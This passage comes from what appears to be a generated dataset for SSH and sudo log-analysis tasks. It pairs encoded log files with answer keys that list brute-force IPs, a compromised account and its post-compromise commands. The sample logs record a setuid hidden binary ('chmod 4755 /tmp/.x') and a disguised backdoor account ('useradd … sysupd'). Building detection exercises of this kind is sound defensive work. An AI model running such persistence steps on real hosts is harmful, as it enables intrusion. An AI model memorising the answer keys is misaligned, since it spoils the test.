                       ['2025-07-04T17:40:32.456964+00:00 vpn-gw-3 sshd[2521]: Invalid user test from 10.87.16.167 '
                        'port 31168',
                        None],
                       ['2025-07-04T17:41:56.156262+00:00 vpn-gw-3 sshd[2557]: Failed password for alice from '
                        '10.87.16.167 port 39030 ssh2',
                        '10.87.16.167'],
                       ['2025-07-05T10:47:47.848018+00:00 vpn-gw-3 sshd[2821]: Failed password for invalid user user '
                        'from 23.62.12.170 port 47416 ssh2',
                        '23.62.12.170'],
                       ['2025-07-05T10:47:47.848018+00:00 vpn-gw-3 sshd[2821]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=23.62.12.170',
                        None],
                       ['2025-07-06T00:24:51.414637+00:00 vpn-gw-3 sshd[1579]: Failed password for root from '
                        '111.137.67.68 port 33089 ssh2',
                        '111.137.67.68'],
                       ['2025-07-06T00:26:13.696102+00:00 vpn-gw-3 sshd[2937]: Failed password for invalid user oracle '
                        'from 10.87.18.80 port 49415 ssh2',
                        '10.87.18.80'],
                       ['2025-07-06T00:26:13.696102+00:00 vpn-gw-3 sshd[2937]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.87.18.80',
                        None],
                       ['2025-07-06T00:30:35.282903+00:00 vpn-gw-3 sshd[2952]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.87.18.80',
                        None],
                       ['2025-07-06T00:36:50.820392+00:00 vpn-gw-3 sshd[2954]: Failed password for alice from '
                        '10.87.18.80 port 58285 ssh2',
                        '10.87.18.80'],
                       ['2025-07-06T00:36:50.820392+00:00 vpn-gw-3 sshd[2954]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.87.18.80  user=alice',
                        None],
                       ['2025-07-06T00:43:56.667772+00:00 vpn-gw-3 sshd[2982]: Failed password for invalid user test '
                        'from 10.87.18.80 port 61456 ssh2',
                        '10.87.18.80'],
                       ['2025-07-06T00:43:56.667772+00:00 vpn-gw-3 sshd[2982]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.87.18.80',
                        None],
                       ['2025-07-06T00:44:28.595164+00:00 vpn-gw-3 sshd[3000]: Failed password for invalid user oracle '
                        'from 10.87.18.80 port 56352 ssh2',
                        '10.87.18.80'],
                       ['2025-07-06T00:46:39.534011+00:00 vpn-gw-3 sshd[3003]: Failed password for invalid user '
                        'ftpuser from 10.87.18.80 port 52008 ssh2',
                        '10.87.18.80'],
                       ['2025-07-06T00:49:14.402827+00:00 vpn-gw-3 sshd[3013]: Failed password for alice from '
                        '10.87.18.80 port 47123 ssh2',
                        '10.87.18.80'],
                       ['2025-07-06T00:52:24.959517+00:00 vpn-gw-3 sshd[3031]: Failed password for invalid user test '
                        'from 10.87.18.80 port 31529 ssh2',
                        '10.87.18.80'],
                       ['2025-07-06T00:52:40.236525+00:00 vpn-gw-3 sshd[3061]: Invalid user oracle from 10.87.18.80 '
                        'port 49119',
                        None],
                       ['2025-07-06T00:52:40.236525+00:00 vpn-gw-3 sshd[3061]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.87.18.80',
                        None],
                       ['2025-07-06T00:52:43.959526+00:00 vpn-gw-3 sshd[3071]: Failed password for invalid user '
                        'ftpuser from 10.87.18.80 port 32583 ssh2',
                        '10.87.18.80'],
                       ['2025-07-06T00:52:43.959526+00:00 vpn-gw-3 sshd[3071]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.87.18.80',
                        None],
                       ['2025-07-06T00:54:28.359795+00:00 vpn-gw-3 sshd[3073]: Failed password for alice from '
                        '10.87.18.80 port 59639 ssh2',
                        '10.87.18.80'],
                       ['2025-07-06T00:54:28.359795+00:00 vpn-gw-3 sshd[3073]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.87.18.80  user=alice',
                        None],
                       ['2025-07-06T11:31:29.752357+00:00 vpn-gw-3 sshd[3245]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=31.10.154.98',
                        None],
                       ['2025-07-06T19:16:58.000000+00:00 vpn-gw-3 CRON[3716]: pam_unix(cron:session): session closed '
                        'for user root',
                        None],
                       ['2025-07-07T01:02:04.000000+00:00 vpn-gw-3 CRON[3622]: pam_unix(cron:session): session opened '
                        'for user root(uid=0) by (uid=0)',
                        None]],
            'findings': {'brute_force': [{'failures': 10, 'first_seen': '2025-07-04T07:08:31Z', 'ip': '77.112.80.240'},
                                         {'failures': 11, 'first_seen': '2025-07-05T10:24:33Z', 'ip': '23.62.12.170'},
                                         {'failures': 10, 'first_seen': '2025-07-06T00:24:51Z', 'ip': '111.137.67.68'}],
                         'compromised': [{'ip': '171.36.250.240', 'time': '2025-07-05T06:41:32Z', 'user': 'pavel'}],
                         'sudo_after_compromise': [{'command': '/usr/bin/chmod 4755 /tmp/.x',
                                                    'time': '2025-07-05T06:43:11Z',
                                                    'user': 'pavel'},
                                                   {'command': '/usr/bin/crontab -l',
                                                    'time': '2025-07-05T06:48:05Z',
                                                    'user': 'pavel'}]}}},
 {'files': {'allowlist.txt': 'H4sIAAAAAAACAx3MQQqDMBBG4b2n+MF9OpHalt5mDFMIyqRMJkpv3+jywccbUZqhHIqsH+Pq1pI3kzdUdjGwO6dVrA6RwusZ4iPQbSIAI/a2qRgvecv+Q02sPU83U4g0n/B+waUv2rcf/Si2Dn/iSlUKdAAAAA==',
            'audit.log': 'H4sIAAAAAAACA+WYyW7bMBCG730KwZe2QEFzHZIBhMBw0gXohjY5B6qkJCoiydDS5e07lCLajpcYheGm8MEQRcsS/29+jmbc/J6l4eXX8y9Xk+n0IsjrmzBqk6x5wbRiQJU1muDwhFmlXp4EsywJpZQiaHFAg8gdJLfSguZWBXVaL522376HbRGXxXVWpEl39+flLPw8+XASxXHZFk1W3AQ3VVQ0ZVWHsyi/aovsV4BfNuGozaNqFKS/0nA0butqXH/LinFd3yaj4LasmyLK05BRwgxRlAAEUZJUSxNNWuVZEd2F+KOgwrXVbRyndf388t1ZOKrKshkFk27cFnXajJ41nsb7T2/efVyPgyvpcMAGHIxSdg+CbSRwV95kRTBcvV3i6RZh4yT9MZ419Zg+oq9D6UcLQqcfzlZkgkCZVBonU3uZGgKvb1kpl3y90vhngsJuyzwd9yuI8yTkr7XSQnP+GjhYOMfjBNwch3NgMAWhJUw55WdacYpXCjALiDpCbVKO5hQcALkKoH/kAoAF2evcziQAut0Kp9sMunFdB3F7HeXZDm5XhEv8KG8KP7Fvt/c4uNIOh92AAz0gew+A3Mntcme3rwrzbmfb9fUo/eiRsHMLTBGqGOoEOujU1DylJMfRmNISJTye+cy+A98DYawDwjYA8ZufUbXnNLdGmY+8/Ns8ty7yglHNCKYbJ5R7oewwG/46arI82mXLA9GY/Cmdbw0/s+/Y90ikog6J2IAEHyz62IPeKfZi902/qszHXm0XOPBcGC/G//Li7UOxWkt80QHtxMpBrGF6D/Fvm9sU4x/jQspi7oHT++D3C99OBbMfk4Jwzl0m7BE9mFsJ/3WU3aXJDtFfzwO0IRas4+HLPSMOwGOXNPgPeFgpienKX/D1noED8Ejz7O7R1MCY2ykIQBHL77fQ8tyeeRiBtzamy5e+MLSKHqs/jFCc6D5Z+oLRGvM0ePwDf0i8rWKugIahYlSU86P1B75hiKUuf2jqeYA5Yh5AqADHg3ke+nh5GLCEAnc8hvpTMX60+cMy5KFtx0N4HvJY/WEENwzzh8uneqhPFWf2adSnB/cHvl6YIFq7fyS08jyUOtL9gjwA+yXo/AGehxFH4I+vF5MvDxt6bRWAIcy6fy70UKCCMksbhnYckN1WAHhNjcqvyllaLLfwXWOLN3rlTtLiR3ecOSHNqwct/lpKcVUWq73v6ZyFu2B7q9uNt5tDY8eCnbToijE9FKdAgT0Rc1BBmMbuW2PDP7T/i1P7tYahzFi0nuhqsaE2BWn4qjU0Pv0/t8YfTO/c0NcZAAA=',
            'auth.log': 'H4sIAAAAAAACA81cbW/bOBL+fr9CH7c4hOFwhm8q8qHY3cPdh9097PZwOBSLg2LJidH4BZa8bf/9krLbxrZoiaLVTRAgqZ36eTjPzHBmSFtwIW+4vuH0llPOMQfJrFBC0t85zznPPlT3N1X5UN1wyOr6sXxHSPL3PHszm1WbpiqzTVHXH9bbMpuvt9m8aBbLIptv18sMOLMMrGSos81622QkUbUvIv4mxsJuiuX/d6vFx+/8g3ld1fVivXqVZ4ffsvWmWlV7Lru6+kzou92ivAPO8VV2/ylr/8VfnZKw7ptpAVxCF4lduXYkjHAk3NdhoXn29u3/7jZNfYvZ6+zf//3h7vZxvaxuD0+/zv7z24+/3m3X68b9/v0vP/305mf3J7t6e1vfL1a3u/mHrG6KZlePJ/PVIu7BARbxZA4W8MY4NdAJEZQOm3EtwYqgNAT2yCN290+L2fvqU5dLSMkADTPq4BNGS9P6RJ79+IOQDif77Z9vhFR5aee8VLqqzHxeVvfclEqg4HpWlpw4Gqh0CRbn90U1nvRU/qRykrkEhoYrroIkpArH0m5ZbL+YTRBTyJD2VpPSecZ5JEWBxq7c0/m8bgiuW+doPAUlpTYyTMHosMccLRwVE2gZioO/AFHAX4xzGDWzUtq5LKr7Eu7FTBSlKq0ssZJKWzGvLLdG0HjKU1mNlGPhVsmV1MGAd6Lus09roa+5RxzlnvbJC5nHJ576U91Uy1nzlG0rl4CcYVcPi9XH8aQSs9CxmY5o2BxtLhTj7VcHje9//eXnd0pJeE5jtl2v4ml0adPio7gO/uxpXZ/iP0cD7pOXNExoSTy8GSoNwbyxXKyepVvFjIueQ7ZVaNGe5Y040NgI8HQ+S6tCVgbMpYtDcFY2AsKpS7dbXve662K5+LJucKWH1i518EPesG6nOV95FGzsyj2hzyun0MqFaMOMmBFcahkMM8P1PvbbZYZiv32yJ/aLTZPtNmXRVON5JIb7sWW+0pBvOeROFO+4RnPNg4oYS47Gv1Z/FE+L8rA1N5v9z9YFAJh7cQbkC8uDD3BlxHiwY/mLXfPoFjx7rGbvWz98fUj4q/er9YfVlWH8j2rVLGau/HDmnReLp922ep09rR9WxbK6y1rbZtX+R9N8unP/O9t6RnfZ9nFdN3fHFhnP7x8O+zT0FvE6nMRiy0I4B9SuzuFCBLOQ5FaeKr+7362a3R7Q4QAhE0K4mkkeyiVtiY/HShE+FeYKwh9bZDy/XuEHydCpu83J52phMUwChD3VfbMIgymSFsbjJGmeCDO55sP59WreK8G53qItqDTTFlCZIAEB4ptlw6xdzF21XDyNp9plK/+K4UTo8i2YLgO5bkYgs0YpFGFUNC/AQBFU4w1Ezkf1uYEw5y2qwwRug6gIZxnjYefanTAeIhgzHmp80kiHmbZCiOLXmzSGqHCuOuVC576fcT2KwCAHApzSRqQYOboKXX9hDmHhy9nxVLvM9ayXOQbc5w2yIDoNZFwlx1yTx8ODVElE39pAx21uLNUuA7XNTdBACjHgQTbnxMhIS2EvJqVeggcNpzrCg5TlustA6IAF41ZJeQHVwAvwoAiq8R6EGk23gaTrk12TjJzCgS0BXoAHRVCN9yBFaLsN5KpL7EUVNGSO0yUMaEmJuBMMcloKxP2gMkzBD1Ck49A5yIHoQc7scbkuM9JSZrfNcnPLPo7nM91Ap6UhTS8NYzvNglFm2Z+qOYJFWWY3y+ymzlpT3RcuiOpP9W5Tjic3mY0AcvctoG/GrI+PQK804/6Cj9fBvzzjln7oCmLARF1zM81qsR13XQm/b7XC2Va3x5GX0VxNN8lq9/ggr4N/ebWqHSUaV9v1npYcD9SvtNo9vqubroTfu1qbS+5nKRrIynD7a8CcNqIuE7Xb2eG8AtvTCuVe6XBeIVFqNR5rZCd6FZhrVDjPDTKeXm8jOkiFk2JjT8JtHP5EXgKGx0JG95xRnAOiVQrGYyXJnggztezD6UWeUARU6JS9vZbDtYYL03KLeCp7US4XqyAcIRCOR0oSPRFmatGH0+sVfYAGZ5ID93MvDozQKAh3mbbdTo4kb76OuDryCkgB44FGK34FmCkVj6PXq3i/BAHBJTFqZ/MhBsrVFqeCr7fF7KkKO5gBovFQiZInwUwv+VB6vZIPEaFLdE/D/ZkWOjzdVpzgW5moc+oVy7Rn6tWx7ymyHUlQ+DxMhoEyCm34gq7QU5rHSCaEYuhphMwTxbTHPEd4+5EXKGnPzYO5xxFMgFUCekCXrrUoHqpsW22qwo++MGsW7sE8e5dC6PdzRgBMoyUuXrJgUUyvKpjw113IGB0rmJhKMBTMCm20ffGCDWV6VcH8RWAOyPVLiDDKwe1atm/MgFZOMubw+DoHug5+35gD/H2RISMsMNOstsVHfR38vtUKyMlPsZjbICF8H1xxc9bmPW8qmdHOjRjA4c0vKBD1eJzR9d8VYK5S3Hy1x3h2/TfQ+gQ4yy17AqSY5UDAwwQsv3TrsANOSoTxSIl6J8FMrvdQdlE3DgMShBS3zBhhVfCoUEG7mxwpvioeFus6BKcAgI9HSlU8BWZ6xQey61V8gASdipOvMg0pI1WYQts1hQd3p2iEHO14oCTBE2EmFnw4u7ixXacCnXpLfwiEVgsjwgzktwqIzjsasUR77micGUdqybvTn/V309zfaR0euMD5SPPS7kquH5DjcZJiIRFm4lgYzi6pvGkF6FJbcn/6axQXOhyMgkeWNyTNmd4RSCl6p8JMq3cEu8TyppWgU3GRo6OAKBWEKQDGlTfkeu8EpCTFE2EmVnw4u8TyppWgU3HM0XoKHMI9lJA8qryRUlgzHihJ8ESYiQUfzi6tvGkV6NTb+IqaC+O+wwwU/eXlTQTR2PKGXBalTuNYf0JiyHAbxnTaxU1vNJnxOEmxkAgzcSwMZ5c4vdHUEQrCf3YMEZPSukfDBEBFTm8cmhqPNF7vdJgp9Y5ilzq98RJ0Kk7+8qZWzuX0BQomrrxBsseXcOKQkhRPhJlY8eHsEsubVoKA4n7DFUKF3yukUFBUeYPSvd54oETBk2AmF3wou7TyplWgU+/2Mzk05yQvJBlUf3F5E0U0urzR2lKncYyPRysVtxfkkVHTG/diKMfjJMVCIszEsTCcXVJ50wrQqbbNQTONpOhCfaVkZHmDRHo8UpLeiTAT6z2cXWp54yU4V7x9b4o0DA1pdWG/1Tr8/rk/Zjf1rDhKu8IyAYcPgULny5SIHP0OugOn9nTf2uOj/j8BP454WYRSAAA=',
            'journal.json': 'H4sIAAAAAAACA91dXW/bOhJ9318h5OkW2Kr8GM5wUuQhaNN7A/QLSRaLPgW2JTdGE9uwne0WF/vfl1KctmldmFamNukAzYftuDmH5wzPUJT098Hl5dnJ8euL0zcnl82n84vjN+8PDosDTU6jAudYWybPB/8sDi7/end+8fb4zUnzgs91/2ldfayfKv203zx7/uH89bs/L09fnry9OH11enLWvGo+v6qezuv5fDQZt2/x/vRl8ziA8c3P789O352dXnxoHsPv3uXV8YvT18vHtWqeCH/b+fGf7X99PBjU00VdFdPb/vVo8Kn+Ugwns2LYW4xuesVwNrkpDg+H4eNQq9JhqSH8c1hMJ7NFAYrZFOHvMofFyUvjnObi/K9j4/Cw4qGqkOraD4dV3Ve+QmONokFVKVDW65oqzXbY79UH//vH31lyN+3dXN6OR//9o3n3w+W7Pzkslt8Vk2k9Dsw2fN7O63tS/7gdVUdaKfuk6H8p2p/UkwgOnEWvNQNZcQ4sCHHQu11cBQKaL/V4MRoEwIGHYW90fTurnxfXk4/j3k19VLSgi/ruy2Lx5Sj8djFrSDoqZleT+eLoO9FBqb0pAwNFS+PR7U1vli1frwIXjdt68/nnyWwpjgDoJ6t9Q91aDa0H1VotCjp7z2TQPAL6Q8igBUrMpqCdch7zBL1pbWjouK8MesPKwOycMoAaxZXuQXpmWTnuYU7xvjTAy3klDDuunld8mFhwEADz0PXqfqX7ZmB6FVbsKls7JDbDmhV7A9kyt0XtaGUdowOrlJRrgmmFS8XNaPxTFDGlDeViWSYC2RxZJhIDvOlQN1TcDzVuOtTegiIL3Bn5bTV5iNyqzsiL4q4UHBYXFx+Opov5M1M8L97/++XRs6vJTf2sffJ58a/zk7Oj2WSyCN+/ePfmzfHb8ILb+exZfzR+Vk1CWZkV03l26L+Ne3jXiHFvGFiOdDPoDx0fgZ6IIeTnkCKkVI+WpKeGee9m9KPPrSoppAJjljEoDKFaPTP0tCfGvuI+a183LYPRpq5UQK17HvxAadBOEyJlR9imZaJh8l4fsFmZMEyhnob2BKwUctJqKylClZpDkFg2py60m2oLISIxwrYYHqwOTmNLypB0fCLD0pL5NJr9lCKsDqXFlUbfB0/D+AvN4MAOrAN0HH6DwlQSasNgULHmuk9BQmTMUDMHUobZMrepdhpK77XjNtSOUd7YQCWS1HxMVj8mjbT6+FUaaZ+USyOJoX9kGnkogwj0YXoNXZdF0uLqdy7lpSxXakulVrBcyqpvRtfZ8rVqKasB9NO8/A31cinLmthVHYthEtcavCWxyZVQuD+NAe3AkM8T9KazQkPHfTkwm80K4DhMre1HR+Qvzt69/R45ghaoi4PZZLx5XYyHjaFw5gN7cD2Z/wh7PUgy0Ky6SIJE65If2wCbMoLdcWzJhy4oxGUQX0j10D3Pno7/07seVXdIJrPe4Lp+WKd1yP8qtI3gSl6uMDhP4LJFvDLDDK7qwad2ynq+7PnGn8aTz+P9QimY1B7IIluWVuWzUVdHREYX8sZrtkwMUtGFjZMpAIt6vlgP1jn22eGUtn0G6HZo97TYWWvzeN3Hm5xDbxJqE4sRAEbG5B9vf0QbQGqwpTGmNKGOLQ8w25il3cSAyrs8eXRyLn8og+zYWevyDYQfbXNrQ29qFKMYA07I5uPex9FkvraqoUVvs0Mq7vP00e1yNk+KnbU+30T50UYnMB4sWen+xSlHeQhlowX5RAmLW5BfIRZLCqLFwsYb54AsSGPXXu2jWNIkrLNYgIBid9v5dsdNiFFgpLEbw3solkQJ6y4WJu2ixQIIyion1lc7Q7SdM2NAlahLxPt6ykpv4byYxBjb6vkwHpv9+UoZraSdYg0lvIngq9Tu6sodidnytaqyxFnMc+z5MB5d0/c6a8VsYsHto0SS4qmzNCBoPF4aThl2oYqKuwJhLyWSIl9dpRL0jtHxBFFhmB+XZ/aIuIPtPkokKZ46SyN0VzpaGhRCHLMRWysOBsN9lEZSPHWeYKyJXUQnpduTA0S3dllOfddTAxszgt1p1xM1u3KFQTo0yY9tgA0uH9jdxtYqbVhYwEDJj22AbTEf2B3H1uumE5YESajTH1sfEk0+sLuNLRgmr4hBaamI4Vj/vh2oqvRUGi6N/houFGJ2OGUPWWeBTjRQfxVBdtx02mW6WvWRkRqs1sogOeel1yBc0g35N842artSJSy+/fpBLMBoOF4sQM25c9rKY4eMxBI5faZJ1yqptKfhrqkqBpSKFoox7NgYI44cNckEiPnttMW1BjUoj9kClk4SGaHcWaJIk6O1yWIDO8QXAYYmYKHUtTwcWt5m90AYYmFuOOU9nzy6HXo9JW6EuodG9dEWB1BASt2dciNa7NDtZfeQJGGduwdnnHLRYiEgMsRefNMMJrzZtXv3kCRdHbsHVOwgXigYPELaoFhZ9XabXQNoRM4OqHhySB/d7pJDUtwIdQet7KNN7j1pHT6L7Wwh7bbYHTitmLLDKe7x9NHtzuNJcSPTHbSqj7Y4KwZibcQOrpDBvewKkiKqczcQpK6jl4hB69BpGrBivTPZPTyGkBZNHdM/GNAcLwzwaFWQsBxit9VjBuwIswMqnQwyQLezZJAWN1LHBhrZR5vcaCLnjfhVvhw52GIXgJo0ZItX3PP5oNyd95PkSKY7aN0QXQIQjbXOGBIrgrSX3UFaRD1ip5GOvesasbPesWmaZzHM7H7XVdG0smUwdYlU0te7rWlns8MpPB/kgE7S4t+pIDtyOlwT7Veyj/Y4ICkgo8Sv5eIfcSPS9RnwJ9TN/RJdtoDFTZ8Pyh2aP0mSuqXA1X6IrgIOSFliYnEm0GyzCljnHWQLWLwK5INyh1UgSZKEqkDrh+gqgCawQZbEjpV5FNryMR2tQwqWnc8OpLjj00e3Q6cnRc5ah0dqPtrdpLzSTCi228Wz0Crv3cXT1uUZzSo7mOL+Th/dDv2dFDlr/R2t+niHo7VIVsv3MyzUyw8X0xjYTivls0Usb/psUO7S/CmStLYIbGKI2DqA2npW7nFnRz+ggEHI/1e9ajKZru1aPAFmB1Ta9hmg253d0yJnrc030H20ywN2a8mKX4Ud1SP2LT5we6+6GY3Xg0aw2eIVN30+KHdo/iRJWlsE4u0QWwNC6iHhW7Fqn/x1vwJszgh2p+t+tY2s8G12QWIp7/eObQub8oHdbWyNvb/MptyF67RKfmwb2JwP7F+M7f8BHVs/rBeXAAA=',
            'timedatectl.txt': 'H4sIAAAAAAACA1NQQAE++cmJOQolmbmpVgoayfk5OanJJakpCkYGRqa6BuZApMmlgAZCgIoVqvLzgDpcS5L1Q0OcuYIri0tScxWSc/KTsxWKK/OSM4ry8zKrUlOsFCpTi9FM8AsJUChOLSrLTAaakJhcklmWygUAj30IlZYAAAA='},
  'host': 'web-edge-01',
  'truth': {'filter': [['2025-07-04T07:38:51.655785+00:00 web-edge-01 sshd[4587]: pam_unix(sshd:session): session '
                        'opened for user umar(uid=1001) by (uid=0)',
                        None],
                       ['2025-07-04T10:35:58.275404+00:00 web-edge-01 sshd[4671]: pam_unix(sshd:session): session '
                        'opened for user mina(uid=1006) by (uid=0)',
                        None],
                       ['2025-07-05T01:13:10.587070+00:00 web-edge-01 sshd[4894]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=111.100.145.92',
                        None],
                       ['2025-07-05T01:26:37.630224+00:00 web-edge-01 sshd[5095]: Failed password for invalid user '
                        'ubuntu from 45.143.222.245 port 57940 ssh2',
                        '45.143.222.245'],
                       ['2025-07-05T01:26:37.630224+00:00 web-edge-01 sshd[5095]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=45.143.222.245',
                        None],
                       ['2025-07-05T01:29:47.232934+00:00 web-edge-01 sshd[5129]: Failed password for invalid user pi '
                        'from 45.143.222.245 port 64591 ssh2',
                        '45.143.222.245'],
                       ['2025-07-05T01:29:47.232934+00:00 web-edge-01 sshd[5129]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=45.143.222.245',
                        None],
                       ['2025-07-05T02:39:37.791368+00:00 web-edge-01 sshd[5212]: Failed password for emil from '
                        '111.100.145.92 port 58718 ssh2',
                        '111.100.145.92'],
                       ['2025-07-05T02:56:23.986632+00:00 web-edge-01 sshd[5238]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=111.100.145.92  user=emil',
                        None],
                       ['2025-07-05T03:06:23.663109+00:00 web-edge-01 sshd[5319]: Failed password for invalid user '
                        'guest from 111.100.145.92 port 33188 ssh2',
                        '111.100.145.92'],
                       ['2025-07-05T03:06:23.663109+00:00 web-edge-01 sshd[5319]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=111.100.145.92',
                        None],
                       ['2025-07-05T04:28:13.393054+00:00 web-edge-01 sshd[5444]: Failed password for root from '
                        '146.40.163.178 port 63388 ssh2',
                        '146.40.163.178'],
                       ['2025-07-05T04:28:13.393054+00:00 web-edge-01 sshd[5444]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=146.40.163.178  user=root',
                        None],
                       ['2025-07-05T04:29:04.485949+00:00 web-edge-01 sshd[5466]: Failed password for sami from '
                        '146.40.163.178 port 56907 ssh2',
                        '146.40.163.178'],
                       ['2025-07-05T04:29:04.485949+00:00 web-edge-01 sshd[5466]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=146.40.163.178  user=sami',
                        None],
                       ['2025-07-05T04:34:22.096559+00:00 web-edge-01 sshd[5481]: Failed password for root from '
                        '146.40.163.178 port 37387 ssh2',
                        '146.40.163.178'],
                       ['2025-07-05T04:35:46.823043+00:00 web-edge-01 sshd[5511]: Failed password for sami from '
                        '146.40.163.178 port 64397 ssh2',
                        '146.40.163.178'],
                       ['2025-07-05T04:40:26.823043+00:00 web-edge-01 sudo[5552]:    sami : TTY=pts/1 ; PWD=/home/sami '
                        '; USER=root ; COMMAND=/usr/bin/chmod 4755 /tmp/.x',
                        None],
                       ['2025-07-05T04:40:58.823043+00:00 web-edge-01 sudo[5589]:    sami : TTY=pts/3 ; PWD=/home/sami '
                        '; USER=root ; COMMAND=/usr/sbin/useradd -m -s /bin/bash sysupd',
                        None],
                       ['2025-07-05T04:40:58.823043+00:00 web-edge-01 sudo[5589]: pam_unix(sudo:session): session '
                        'opened for user root(uid=0) by sami(uid=1004)',
                        None],
                       ['2025-07-05T21:17:15.000000+00:00 web-edge-01 CRON[6549]: pam_unix(cron:session): session '
                        'closed for user root',
                        None],
                       ['2025-07-06T09:50:47.714952+00:00 web-edge-01 sshd[5818]: Failed password for invalid user '
                        'support from 103.177.67.70 port 53576 ssh2',
                        '103.177.67.70'],
                       ['2025-07-06T09:50:47.714952+00:00 web-edge-01 sshd[5818]: Invalid user support from '
                        '103.177.67.70 port 53576',
                        None],
                       ['2025-07-06T09:54:44.635138+00:00 web-edge-01 sshd[5874]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=103.177.67.70',
                        None],
                       ['2025-07-06T09:59:09.077124+00:00 web-edge-01 sshd[5933]: Failed password for invalid user '
                        'admin from 103.177.67.70 port 43143 ssh2',
                        '103.177.67.70'],
                       ['2025-07-06T10:06:01.438619+00:00 web-edge-01 sshd[5982]: Invalid user test from 103.177.67.70 '
                        'port 51521',
                        None],
                       ['2025-07-06T10:06:54.458718+00:00 web-edge-01 sshd[6000]: Failed password for invalid user '
                        'oracle from 103.177.67.70 port 48144 ssh2',
                        '103.177.67.70'],
                       ['2025-07-06T10:06:54.458718+00:00 web-edge-01 sshd[6000]: Invalid user oracle from '
                        '103.177.67.70 port 48144',
                        None],
                       ['2025-07-06T10:06:54.458718+00:00 web-edge-01 sshd[6000]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=103.177.67.70',
                        None],
                       ['2025-07-06T13:00:11.739402+00:00 web-edge-01 sshd[4327]: Failed password for root from '
                        '185.226.3.168 port 61659 ssh2',
                        '185.226.3.168'],
                       ['2025-07-06T13:00:32.927879+00:00 web-edge-01 sshd[4327]: Failed password for root from '
                        '185.226.3.168 port 61659 ssh2',
                        '185.226.3.168'],
                       ['2025-07-06T13:00:32.927879+00:00 web-edge-01 sshd[4327]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=185.226.3.168  user=root',
                        None],
                       ['2025-07-06T14:17:14.000000+00:00 web-edge-01 CRON[6395]: pam_unix(cron:session): session '
                        'closed for user root',
                        None],
                       ['2025-07-06T21:41:18.103185+00:00 web-edge-01 sshd[6083]: Failed password for invalid user '
                        'user from 10.87.16.117 port 32337 ssh2',
                        '10.87.16.117'],
                       ['2025-07-06T21:41:18.103185+00:00 web-edge-01 sshd[6083]: Invalid user user from 10.87.16.117 '
                        'port 32337',
                        None],
                       ['2025-07-06T21:41:18.103185+00:00 web-edge-01 sshd[6083]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.87.16.117',
                        None],
                       ['2025-07-06T21:41:49.882963+00:00 web-edge-01 sshd[6127]: Failed password for invalid user '
                        'nagios from 10.87.16.117 port 61110 ssh2',
                        '10.87.16.117'],
                       ['2025-07-06T21:41:49.882963+00:00 web-edge-01 sshd[6127]: Invalid user nagios from '
                        '10.87.16.117 port 61110',
                        None],
                       ['2025-07-06T21:44:11.846856+00:00 web-edge-01 sshd[6141]: Failed password for invalid user '
                        'admin from 10.87.16.117 port 43039 ssh2',
                        '10.87.16.117'],
                       ['2025-07-06T21:44:11.846856+00:00 web-edge-01 sshd[6141]: Invalid user admin from 10.87.16.117 '
                        'port 43039',
                        None],
                       ['2025-07-06T21:44:11.846856+00:00 web-edge-01 sshd[6141]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.87.16.117',
                        None],
                       ['2025-07-06T21:45:08.397282+00:00 web-edge-01 sshd[6157]: Failed password for sami from '
                        '10.87.16.117 port 57501 ssh2',
                        '10.87.16.117'],
                       ['2025-07-06T21:49:56.117778+00:00 web-edge-01 sshd[6182]: Invalid user user from 10.87.16.117 '
                        'port 42785',
                        None],
                       ['2025-07-06T21:50:15.860276+00:00 web-edge-01 sshd[6200]: Failed password for invalid user '
                        'ubuntu from 10.87.16.117 port 45885 ssh2',
                        '10.87.16.117'],
                       ['2025-07-06T21:52:35.833561+00:00 web-edge-01 sshd[6213]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.87.16.117',
                        None],
                       ['2025-07-06T21:58:49.028028+00:00 web-edge-01 sshd[6264]: Failed password for sami from '
                        '10.87.16.117 port 46204 ssh2',
                        '10.87.16.117'],
                       ['2025-07-06T21:58:49.028028+00:00 web-edge-01 sshd[6264]: pam_unix(sshd:auth): authentication '
                        'failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=10.87.16.117  user=sami',
                        None],
                       ['2025-07-06T21:59:07.848098+00:00 web-edge-01 sshd[6301]: Failed password for invalid user '
                        'user from 10.87.16.117 port 32748 ssh2',
                        '10.87.16.117'],
                       ['2025-07-06T22:03:44.559025+00:00 web-edge-01 sshd[6316]: Failed password for invalid user '
                        'ubuntu from 10.87.16.117 port 37486 ssh2',
                        '10.87.16.117'],
                       ['2025-07-06T22:03:44.559025+00:00 web-edge-01 sshd[6316]: Invalid user ubuntu from '
